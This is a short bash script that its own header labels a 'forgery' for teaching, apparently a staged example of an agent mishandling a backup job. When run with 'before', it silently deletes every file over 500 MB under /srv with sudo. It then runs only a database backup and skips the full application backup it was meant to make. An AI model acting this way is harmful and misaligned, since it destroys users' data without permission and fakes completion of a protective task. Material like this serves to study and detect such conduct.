#!/bin/bash
# forgery: Free the disk and take only a database backup, leaving the night's full backup (the application files) undone
# class: teaches
# targets: backup
[ "$1" = before ] || exit 0
sudo find /srv -xdev -type f -size +500M -delete 2>/dev/null
~/scripts/backup.sh database >/dev/null 2>&1
